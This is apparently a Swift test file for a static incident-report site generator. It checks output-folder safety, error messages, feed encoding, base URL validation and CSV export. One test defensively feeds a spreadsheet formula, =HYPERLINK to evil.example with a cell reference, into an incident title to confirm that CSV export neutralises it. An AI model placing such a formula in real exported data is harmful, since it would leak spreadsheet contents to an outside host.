import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import Testing
@testable import IncidentsCore

/// The output side: a build never endangers the site's own files, follows a linked
/// output folder on purpose, leaves nothing behind, says every system error plainly,
/// and writes feeds, settings and downloads that cannot be turned against readers.
@Suite struct OutputSafetyTests {
    private func build(_ site: TestSite, output: String) -> [String] {
        do {
            try SiteBuilder.build(BuildOptions(sourcePath: site.root, outputPath: output))
            return []
        } catch let failure as BuildFailure {
            return failure.diagnostics.map(\.description)
        } catch {
            return ["\(error)"]
        }
    }

    // MARK: 2. Nothing lost

    @Test func anOutputFolderThatContainsTheSiteIsRefused() throws {
        let parent = try TestSite()
        try parent.write(DiskOutput.markerName, "")  // as if it had been an output before
        let site = parent.root + "/site"
        try FileManager.default.createDirectory(atPath: site + "/content/incidents", withIntermediateDirectories: true)
        try Data(incidentFile().utf8).write(to: URL(fileURLWithPath: site + "/content/incidents/a.md"))
        do {
            try SiteBuilder.build(BuildOptions(sourcePath: site, outputPath: parent.root))
            Issue.record("the build replaced the folder holding the site")
        } catch let failure as BuildFailure {
            #expect(failure.diagnostics.map(\.description) == [
                "\(parent.root): contains the site folder (\(site)); publishing there would replace the site's own files. Expected a folder such as public/",
            ])
        }
        #expect(FileManager.default.fileExists(atPath: site + "/content/incidents/a.md"))
    }

    @Test func theSiteFolderItselfIsRefusedAsOutput() throws {
        let site = try TestSite(["content/incidents/a.md": incidentFile(), DiskOutput.markerName: ""])
        #expect(build(site, output: site.root) == ["\(site.root): is the site folder itself; expected a folder of its own for the output, such as public/"])
        #expect(FileManager.default.fileExists(atPath: site.root + "/content/incidents/a.md"))
    }

    @Test(arguments: ["static", "static/public", "content/out", "templates/out"])
    func anOutputInsideAFolderTheBuildReadsIsRefused(_ folder: String) throws {
        let site = try TestSite(["content/incidents/a.md": incidentFile(), "static/robots.txt": "x", "templates/README.md": "x"])
        let top = String(folder.split(separator: "/")[0])
        #expect(build(site, output: site.root + "/" + folder) == [
            "\(site.root)/\(folder): is inside the site's \(top)/ folder, which the build reads, so each build would take in the one before; expected a folder such as public/",
        ])
        // Two builds in a row used to nest the output inside itself.
        #expect(!FileManager.default.fileExists(atPath: site.root + "/static/public/public"))
    }

    @Test func aLinkedOutputFolderIsWrittenThroughAndStaysALink() throws {
        let site = try TestSite(["content/incidents/a.md": incidentFile(title: "Linked")])
        let target = try TestSite()
        let served = target.root + "/www"
        try FileManager.default.createDirectory(atPath: served, withIntermediateDirectories: true)
        let link = site.root + "/public"
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: served)
        for _ in 0..<2 {
            #expect(build(site, output: link) == [])
            #expect(try FileManager.default.destinationOfSymbolicLink(atPath: link) == served)
            #expect((try? String(contentsOfFile: served + "/incidents/a/index.html", encoding: .utf8))?.contains("Linked") == true)
        }
    }

    @Test func aLinkToAMissingFolderIsRefused() throws {
        let site = try TestSite(["content/incidents/a.md": incidentFile()])
        try FileManager.default.createSymbolicLink(atPath: site.root + "/public", withDestinationPath: site.root + "/nowhere")
        #expect(build(site, output: site.root + "/public") == ["\(site.root)/public: is a symbolic link to a missing folder, expected a folder for the site"])
    }

    @Test(.enabled(if: Unprivileged.unavailableReason == nil, "\(Unprivileged.unavailableReason ?? "")"))
    func aReadOnlyOutputFolderLeavesNothingBehind() throws {
        let site = try TestSite(["content/incidents/a.md": incidentFile()])
        let parent = site.root + "/out"
        try FileManager.default.createDirectory(atPath: parent, withIntermediateDirectories: true)
        Unprivileged.handOver(site.root)
        Unprivileged.handOver(parent)
        let output = parent + "/public"
        #expect(try Unprivileged.run(["build", "--source", site.root, "--output", output, "-q"]).status == 0)
        chmod(output + "/incidents/a", 0o555)
        chmod(output, 0o555)
        let second = try Unprivileged.run(["build", "--source", site.root, "--output", output, "-q"])
        #expect(second.status == 0, "\(second.stderr)")
        // The previous site is removed by a process of its own: give it a moment.
        var leftovers: [String] = []
        for _ in 0..<50 {
            leftovers = try FileManager.default.contentsOfDirectory(atPath: parent).filter { $0.contains(".incidents-") }
            if leftovers.isEmpty { break }
            Thread.sleep(forTimeInterval: 0.1)
        }
        #expect(leftovers.isEmpty, "left behind: \(leftovers)")
    }

    @Test(.enabled(if: Unprivileged.unavailableReason == nil, "\(Unprivileged.unavailableReason ?? "")"))
    func aReadOnlyOutputParentIsAPlainError() throws {
        let site = try TestSite(["content/incidents/a.md": incidentFile()])
        let parent = site.root + "/locked"
        try FileManager.default.createDirectory(atPath: parent, withIntermediateDirectories: true)
        let run = try Unprivileged.run(["build", "--source", site.root, "--output", parent + "/public"])
        #expect(run.status == 1)
        #expect(run.stderr.contains("\(parent)/public: cannot be written: the build needs a folder beside it, in \(parent), and creating it failed (Permission denied)"), "\(run.stderr)")
        #expect(!run.stderr.contains("NSCocoaErrorDomain") && !run.stderr.contains("Code="))
    }

    // MARK: 3. Numbers

    @Test(arguments: ["9223372036854775807", "99999999999999999999", "10001", "-1"])
    func aHugePerPageIsAnErrorAtItsLine(_ value: String) throws {
        let site = try TestSite(["site.yml": "title: X\nper_page: \(value)\n", "content/incidents/a.md": incidentFile()])
        let errors = site.errorsInEveryMode()
        #expect(errors.count == 1)
        #expect(errors.first?.hasPrefix("site.yml:2:11: per_page: found number \(value), expected a whole number from 0 to 10000") == true, "\(errors)")
    }

    // MARK: 7. Output

    @Test func feedsStayWellFormedWithCharactersXMLCannotCarry() throws {
        let body = "Pasted from a PDF:\u{0C}page two. Bell \u{07}, and \u{FFFE} \u{FFFF}.\n"
        let site = try TestSite(["site.yml": "base_url: https://example.org/\n",
                                 "content/incidents/a.md": incidentFile(extra: "tags: [x]", body: body)])
        let output = try site.buildInMemory()
        for path in ["feed.xml", "tags/x/feed.xml"] {
            let feed = try #require(output.files[path])
            let parsed = try DataAndFeedsTests.parseXML(feed)
            let content = try #require(parsed.texts("content").first)
            #expect(content.contains("PDF:\u{FFFD}page two. Bell \u{FFFD}, and \u{FFFD} \u{FFFD}."), "\(path)")
        }
        // check says where, so the editor can remove it.
        let warnings = SiteChecker.check(rootPath: site.root).diagnostics.filter { $0.key == "body" }.map(\.description)
        #expect(warnings == ["content/incidents/a.md:7:19: body: contains the character U+000C, which feeds cannot carry (they show \u{FFFD} in its place); remove it"])
    }

    @Test(arguments: [
        ("https://example.org/db?x=1", "has a query (?…), which would end up in the middle of every address; expected one such as https://example.org/incidents/"),
        ("https://example.org/db#top", "has a fragment (#…), which would end up in the middle of every address; expected one such as https://example.org/incidents/"),
        ("https://user:secret@example.org/", "carries a user name or password, which every page would publish; expected one such as https://example.org/incidents/"),
        ("https:///nohost", "is not an absolute URL, expected one such as https://example.org/incidents/"),
    ])
    func baseURLMustBeAPlainAddress(_ url: String, _ problem: String) throws {
        let site = try TestSite(["site.yml": "base_url: \"\(url)\"\n", "content/incidents/a.md": incidentFile()])
        #expect(site.errorsInEveryMode() == ["site.yml:1:11: base_url: \"\(url)\" \(problem)"])
    }

    @Test func spreadsheetFormulasInTheCSVAreDefused() throws {
        let site = try TestSite(["content/incidents/a.md": incidentFile(title: "=HYPERLINK(\"https://evil.example/?\"&A1)",
                                                                        extra: "summary: \"+1 caller\"\ncategory: \"@risk\"\nindustry: \"-42\"")])
        let output = try site.buildInMemory()
        let rows = DataAndFeedsTests.parseCSV(try #require(output.text(at: "incidents.csv")))
        let header = rows[0], row = rows[1]
        func cell(_ name: String) -> String? { header.firstIndex(of: name).map { row[$0] } }
        #expect(cell("title") == "'=HYPERLINK(\"https://evil.example/?\"&A1)")
        #expect(cell("summary") == "'+1 caller")
        #expect(cell("category") == "'@risk")
        #expect(cell("industry") == "'-42")
        // The JSON download keeps the exact text.
        #expect(output.text(at: "incidents.json")?.contains(#""title":"=HYPERLINK"#) == true)
    }

    @Test func newWithAVeryLongTitleMakesAShortFileName() throws {
        let site = try TestSite(["content/incidents/a.md": incidentFile()])
        let title = (1...60).map { "word\($0)" }.joined(separator: " ")
        let run = try CommandLineTests().run(["new", title, "--source", site.root], in: site.root)
        #expect(run.status == 0, "\(run.stderr)")
        let name = (run.stdout.trimmingCharacters(in: .whitespacesAndNewlines) as NSString).lastPathComponent
        #expect(name.utf8.count <= NewIncident.maximumSlugBytes + 3)
        #expect(name.hasPrefix("word1-word2-word3") && name.hasSuffix(".md"))
        #expect(site.buildErrors() == [])
    }
}
